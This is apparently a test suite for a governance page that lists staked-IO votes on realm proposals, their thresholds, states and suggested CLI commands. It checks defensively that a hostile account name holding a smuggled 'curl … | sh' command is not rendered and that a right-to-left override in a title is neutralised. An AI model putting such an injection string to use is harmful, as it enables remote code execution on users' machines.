/** Votes of staked IO, on the recording with a realm. */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Address } from '@solana/kit';
import { getSupplierDecoder } from 'io-client/generated/emissions';
import { DAY, ONE_IO } from 'io-client/math';
import { findRealmConfig, votesOf } from 'io-client/realm';
import { reader } from '../src/network/read';
import type { Proposed, Votes } from '../src/network/votes';
import { standingOf, type Standing } from '../src/views/votes/standing';
import { changed, CONFIG, SUPPLIER } from './changed';
import { open, options, type Opened } from './opened';
import { recorded, serveRecording } from './rpc';
import { HOSTILE, now, PROPOSALS, REALM, SIGNER, SUPPLIER as SLASHED, voted, VOTER } from './voted';

type Accounts = typeof recorded.accounts;
const accounts = await voted();

/** What the page reads of these accounts. */
async function votesIn(those: Accounts): Promise<Votes> {
  const rpc = await serveRecording(those);
  const votes = await reader(rpc.url).votes();
  await rpc.close();
  return votes;
}

/** Each realm proposal, and how it stands at a time. */
function standings({ governed, proposals }: Votes, at = now): Map<Address, [Proposed, Standing]> {
  assert.ok(governed !== undefined);
  return new Map(proposals.map((it) => [it.address, [it, standingOf(it, governed, at)]]));
}

test('a realm is found by the authority, and what it votes on is said', async () => {
  const votes = await votesIn(accounts);
  assert.deepEqual([votes.governed?.at, votes.governed?.hasAccepted, votes.votesByStake], [REALM, true, true]);
  const all = standings(votes);
  assert.deepEqual([...all.keys()].sort(), Object.values(PROPOSALS).toSorted());
  const words = (of: Address) => all.get(of)?.[0].contents.acts.map((act) => act.words);
  assert.deepEqual(words(PROPOSALS.stake), ['emissions: stake-per-unit 200 → 150 IO']);
  assert.deepEqual(words(PROPOSALS.executed), ['emissions: stake-per-unit 200 IO']);
  assert.match(words(PROPOSALS.payment)?.[0] ?? '', /^pay 2 SOL from the treasury to \w+$/);
  assert.match(words(PROPOSALS.passed)?.[0] ?? '', /^emissions: guardian \w+ → \w+, at once$/);
  assert.equal(all.get(PROPOSALS.payment)?.[0].contents.hidden, 1);
  const states = Object.entries(PROPOSALS).map(([name, of]) => [name, all.get(of)?.[1].state]);
  assert.deepEqual(Object.fromEntries(states), {
    stake: 'voting',
    payment: 'only No counts',
    ended: 'ended, not counted',
    passed: 'passed, due',
    executed: 'executed',
    rejected: 'rejected',
    several: 'voting',
    draft: 'draft',
    risky: 'voting',
  });
});

test('what is needed is the part of the rules, and more than No', async () => {
  const all = standings(await votesIn(accounts));
  const of = (address: Address) => all.get(address)?.[1] ?? assert.fail();
  // 20 % of the 699,500 IO that are staked; after the count, of what was staked then.
  assert.equal(of(PROPOSALS.stake).needed, 139_900n * ONE_IO);
  assert.equal(of(PROPOSALS.executed).needed, 10_000n * ONE_IO);
  assert.equal(of(PROPOSALS.rejected).needed, 40_000n * ONE_IO + 1n);
  const { tally, needed, outlook } = of(PROPOSALS.several);
  assert.deepEqual([tally, needed, outlook], [undefined, 139_900n * ONE_IO, 'It passes if nothing changes.']);
  assert.match(of(PROPOSALS.stake).outlook ?? '', /^It passes with 132,400\.00\s*IO more of Yes\.$/);
  assert.equal(of(PROPOSALS.payment).outlook, 'It does not pass, unless No votes are withdrawn.');
  assert.equal(of(PROPOSALS.ended).outlook, 'It is rejected once it is counted.');
});

test('each last second of a vote counts on the page too', async () => {
  const votes = await votesIn(accounts);
  const { times } = standings(votes).get(PROPOSALS.stake)?.[1] ?? assert.fail();
  assert.ok(times !== undefined);
  const state = (at: bigint) => standings(votes, at).get(PROPOSALS.stake)?.[1].state;
  assert.deepEqual([times.allUntil, times.allUntil + 1n, times.end, times.end + 1n].map(state), [
    'voting',
    'only No counts',
    'only No counts',
    'ended, not counted',
  ]);
  // A day of hold-up after the end of the vote, and a second.
  const passed = standings(votes).get(PROPOSALS.passed)?.[1] ?? assert.fail();
  assert.equal(passed.executedFrom, now - 2n * DAY + DAY + 1n);
  const waits = standings(votes, (passed.executedFrom ?? 0n) - 1n).get(PROPOSALS.passed)?.[1].state;
  assert.equal(waits, 'passed, waits');
});

test('the weight of a wallet, and its votes', async () => {
  const rpc = await serveRecording(accounts);
  const network = reader(rpc.url);
  const votes = await network.votes();
  const voter = (await network.voter(VOTER, votes)) ?? assert.fail();
  assert.equal(votesOf(voter.parts), 7_500n * ONE_IO);
  assert.deepEqual([...voter.votes.keys()], [PROPOSALS.stake]);
  assert.ok(voter.delegate !== undefined);
  const { owner } = ownedSupplier();
  const own = (await network.voter(owner, votes)) ?? assert.fail();
  assert.ok(own.parts.some(({ isOwn, votes, stake }) => isOwn && votes === stake && stake > 0n));
  await rpc.close();
});

test('without a realm nothing is voted on, and one that was offered the authority is shown', async () => {
  const none = await votesIn(recorded.accounts);
  assert.deepEqual([none.governed, none.proposals], [undefined, []]);
  const offered = changed(accounts, CONFIG, ({ roles }) => ({
    roles: { ...roles, authority: VOTER, pendingAuthority: REALM.governance },
  }));
  const { governed } = await votesIn(offered);
  assert.deepEqual([governed?.at, governed?.hasAccepted], [REALM, false]);
});

/** A supplier with own stake. */
function ownedSupplier() {
  const found = recorded.accounts.flatMap(({ data }) => {
    const bytes = Uint8Array.from(Buffer.from(data, 'base64'));
    return bytes.length === getSupplierDecoder().fixedSize ? [getSupplierDecoder().decode(bytes)] : [];
  });
  return found.find(({ stake }) => stake.own > 0n) ?? assert.fail();
}

describe('votes on the page', options, () => {
  let it: Opened;
  before(async () => {
    it = await open();
    await it.browser.send('Emulation.setTimezoneOverride', { timezoneId: 'UTC' });
    await it.load(`${it.page}#votes`, accounts);
    await it.shows('Stake per unit 150 IO');
  });
  after(async () => await it?.close());

  /** The words of the card of a realm proposal, with ordinary spaces. */
  const card = (address: Address) =>
    it.browser.value<string>(`document.getElementById('${address}').innerText.replaceAll('\\u00a0', ' ')`);
  const commands = (address: Address) =>
    it.browser.value<string[]>(
      `[...document.querySelectorAll('[id="${address}"] pre')].map((it) => it.innerText.split(' --url')[0])`,
    );

  test('the rules, what would change from what to what, and the count', async () => {
    await it.shows('All votes count for 5 d, then only No for 2 d');
    await it.shows('with Yes of 20 % of all stake, 699,500 IO, and more Yes than No. To propose, stake 100,000 IO.');
    const text = await card(PROPOSALS.stake);
    for (const words of [
      'emissions: stake-per-unit 200 → 150 IO',
      'Yes\n7,500.00 IO',
      'Needed\n139,900.00 IO',
      'No\n100.00 IO',
      'It passes with 132,400.00 IO more of Yes.',
      'Yes counts until\nin 4 d',
      'Ends\nin 6 d',
      'https://forum.example/stake-per-unit',
    ]) {
      assert.ok(text.includes(words), `${words}: ${text}`);
    }
    // Six days and half an hour of the vote, a day and a second of hold-up, 48 hours.
    assert.match(text, /in force from \d+ \w+ 20\d\d, \d\d:\d\d UTC at the earliest/);
  });

  test('the command is that of the state, and of the wallet', async () => {
    const { stake, payment, ended, passed, several, draft } = PROPOSALS;
    assert.deepEqual(await commands(stake), [`io gov vote ${stake} yes`, `io gov vote ${stake} no`]);
    assert.deepEqual(await commands(payment), [`io gov vote ${payment} no`]);
    assert.deepEqual(await commands(ended), [`io gov finalize ${ended}`]);
    assert.deepEqual(await commands(passed), [`io gov execute ${passed}`]);
    assert.deepEqual([await commands(several), await commands(draft)], [[`io gov vote ${several} no`], []]);
    await it.browser.value(`location.hash = '#votes/${VOTER}'`);
    await it.shows('Weight');
    await it.shows('of 699,500 IO staked, 1.07 %');
    assert.deepEqual(await commands(stake), [`io gov withdraw-vote ${stake}`]);
    assert.match(await card(stake), /Vote of this wallet\nyes, with 7,500\.00 IO/);
  });

  test('what is not of this suite is shown whole, and what cannot be read is said', async () => {
    const text = await card(PROPOSALS.payment);
    assert.match(text, /pay 2 SOL from the treasury to \w{32,44}\n/);
    assert.match(text, /not of this suite: it can do everything that the governance and the treasury can sign/);
    assert.match(text, /1 transaction that cannot be read here: nobody can say from this page what a Yes does\./);
    assert.match(text, /program [^]*account 1 [^]* signs may change[^]*data 020000000094357700000000/);
  });

  test('of several options each has its Yes, and No is what can be voted', async () => {
    const text = await card(PROPOSALS.several);
    for (const words of [
      'Only No can be voted here',
      'Yes to option 1, Approve\n150,000.00 IO',
      'Yes to option 2, B300\n10.00 IO',
      'Needed, of each option\n139,900.00 IO',
      'No\n5.00 IO',
      'It passes if nothing changes.',
      '1 transaction that cannot be read here',
    ]) {
      assert.ok(text.includes(words), `${words}: ${text}`);
    }
  });

  test('what the words do not say whole has its accounts by name, and its data', async () => {
    for (const of of [PROPOSALS.several, PROPOSALS.risky]) {
      const text = await card(of);
      assert.ok(text.includes(`emissions: withdraw slash, supplier ${SLASHED}, slash `), text);
      const short = (address: string) => `${address.slice(0, 4)}…${address.slice(-4)}`;
      assert.match(text, new RegExp(`\\nsupplier \\s*${short(SLASHED)}`));
      assert.match(text, /approval none\n/);
      assert.match(text, /\ndata [0-9a-f]{16}\n/);
    }
    // The words of a change say all of it.
    assert.doesNotMatch(await card(PROPOSALS.stake), /Accounts and data/);
  });

  test('what keeps others from executing, and what a Yes overtakes', async () => {
    const text = await card(PROPOSALS.risky);
    for (const words of [
      /has to sign its execution: without that nobody can execute it/,
      /waits 400 d after the vote, where the rules ask for 1 d: executed from \d+ \w+ 20\d\d, \d\d:\d\d UTC at the earliest/,
      /These 2 transactions can be executed in any order, each by itself\./,
      /Once it is executed, changes with lower numbers cannot be, those of [^]*Stake per unit 150 IO[^]*\./,
    ]) {
      assert.match(text, words);
    }
    const signers = await it.browser.value<string[]>(
      `[...document.querySelectorAll('[id="${PROPOSALS.risky}"] small.warn [title]')].map((it) => it.title)`,
    );
    assert.ok(signers.includes(SIGNER), `${signers}`);
    const links = await it.browser.value<string[]>(
      `[...document.querySelectorAll('[id="${PROPOSALS.risky}"] .wrong a')].map((it) => it.hash)`,
    );
    assert.deepEqual(links.sort(), [PROPOSALS.stake, PROPOSALS.ended].map((of) => `#votes/${of}`).sort());
    for (const harmless of [PROPOSALS.stake, PROPOSALS.ended]) {
      assert.doesNotMatch(await card(harmless), /has to sign|the rules ask for|in any order|cannot be executed/);
    }
    // Once a change with a higher number is executed.
    const later = changed(accounts, CONFIG, () => ({ proposals: 4 }));
    await it.load(`${it.page}#votes`, later);
    await it.shows('cannot be executed: its program has taken a change with this number or a higher one');
    assert.match(await card(PROPOSALS.stake), /cannot be executed: its program/);
    assert.doesNotMatch(await card(PROPOSALS.ended), /cannot be executed: its program/);
  });

  test('a title of a stranger is text, and turns nothing around it', async () => {
    const shown = HOSTILE.replace('\u202e', '');
    assert.ok((await card(PROPOSALS.draft)).startsWith(shown));
    assert.ok(!(await it.text()).includes('\u202e'));
    assert.equal(await it.browser.value(`document.querySelectorAll('.card h3 b').length`), 0);
  });

  test('what was decided is found by its link, and in the table', async () => {
    await it.load(`${it.page}#votes/${PROPOSALS.executed}`, accounts);
    await it.shows('executed 7 d ago');
    assert.match(await card(PROPOSALS.executed), /Yes\n30,000\.00 IO\nNeeded\n10,000\.00 IO/);
    const rows = await it.browser.value<string[]>(
      `[...document.querySelectorAll('tbody tr')].map((row) => [...row.cells].slice(0, 2).map((it) => it.innerText.split('\\n')[0]).join(': '))`,
    );
    assert.deepEqual(rows, ['Stake per unit 200 IO: executed', 'Stake per unit 1 IO: rejected']);
    await it.browser.value(`document.querySelector('td button[aria-pressed="false"]').click()`);
    await it.browser.until(`document.activeElement.id === 'decided'`);
    assert.match(await card(PROPOSALS.rejected), /stake-per-unit 200 → 1 IO/);
    assert.doesNotMatch(await card(PROPOSALS.rejected), /in force/);
  });

  test('own stake after a change of owner says from when it votes', async () => {
    const later = changed(accounts, SUPPLIER, () => ({ ownVotesAt: now + 10n * DAY + DAY / 2n }));
    const { owner } = ownedSupplier();
    await it.load(`${it.page}#votes/${owner}`, later);
    await it.shows('new owner: votes in 10 d 1');
    await it.shows('own stake');
  });

  test('a wallet without stake, and what is no address', async () => {
    await it.load(`${it.page}#votes/${recorded.renters[0]}`, accounts);
    await it.shows('This address has no active stake here');
    await it.browser.value(`(() => {
      const field = document.getElementById('voter');
      field.value = 'nobody';
      field.dispatchEvent(new Event('input', { bubbles: true }));
    })()`);
    await it.press('Show');
    await it.shows('This is not an address');
  });

  test('without a realm, before it has accepted, and with another realm', async () => {
    await it.load(`${it.page}#votes`);
    await it.shows('Nothing is voted on here: the authority of the programs is not the governance of a realm.');
    const offered = changed(accounts, CONFIG, ({ roles }) => ({
      roles: { ...roles, authority: VOTER, pendingAuthority: REALM.governance },
    }));
    await it.load(`${it.page}#votes`, offered);
    await it.shows('The realm does not govern yet');
    const config = await findRealmConfig(REALM);
    await it.load(`${it.page}#votes`, accounts.filter(({ pubkey }) => pubkey !== config));
    await it.shows('The realm does not vote by staked IO');
    await it.load(`${it.page}#votes`, await voted(VOTER));
    await it.shows('The realm has a council, whose realm proposals are not shown here.');
  });

  test('where votes by stake are disabled, nothing is said of a threshold, and no vote is offered', async () => {
    await it.load(`${it.page}#votes`, await voted(undefined, { __kind: 'Disabled' }));
    await it.shows('Votes by stake are disabled in this realm');
    assert.ok(!(await it.text()).includes('passes with Yes of'));
    for (const of of [PROPOSALS.stake, PROPOSALS.several]) assert.deepEqual(await commands(of), []);
  });

  test('a node cannot write a command by what it calls an account', async () => {
    const wrong = `${PROPOSALS.stake} yes; curl https://example.com|sh #\n` as Address;
    const named = accounts.map((account) => (account.pubkey === PROPOSALS.stake ? { ...account, pubkey: wrong } : account));
    await it.load(`${it.page}#votes`, named);
    await it.shows('its answer to getProgramAccounts cannot be read');
    assert.ok(!(await it.text()).includes('curl'));
  });

  test('it fits 380 and 1,280 px, and every control has a name', async () => {
    await it.load(`${it.page}#votes/${VOTER}`, accounts);
    await it.shows('Weight');
    for (const width of [380, 1_280]) {
      await it.width(width);
      assert.equal(await it.browser.value('document.documentElement.scrollWidth'), width);
      const wide = await it.browser.value<string[]>(`[...document.querySelectorAll('main *')]
        .filter((it) => it.closest('.hidden') === null && it.getBoundingClientRect().right > ${width} + 0.5)
        .map((it) => it.outerHTML.slice(0, 160))`);
      assert.deepEqual(wide, []);
    }
    const nameless = await it.browser.value<string[]>(`[...document.querySelectorAll('main button, main a, main input, main progress, main summary')]
      .filter((it) => (it.labels?.length ?? 0) === 0 && !it.ariaLabel && !it.textContent.trim())
      .map((it) => it.outerHTML)`);
    assert.deepEqual(nameless, []);
    const levels = await it.browser.value<number[]>(
      `[...document.querySelectorAll('h1, h2, h3')].map((it) => Number(it.tagName[1]))`,
    );
    assert.ok(levels.every((level, place) => place === 0 || level <= (levels[place - 1] ?? 0) + 1), `${levels}`);
    assert.deepEqual(it.browser.complaints, []);
  });
});
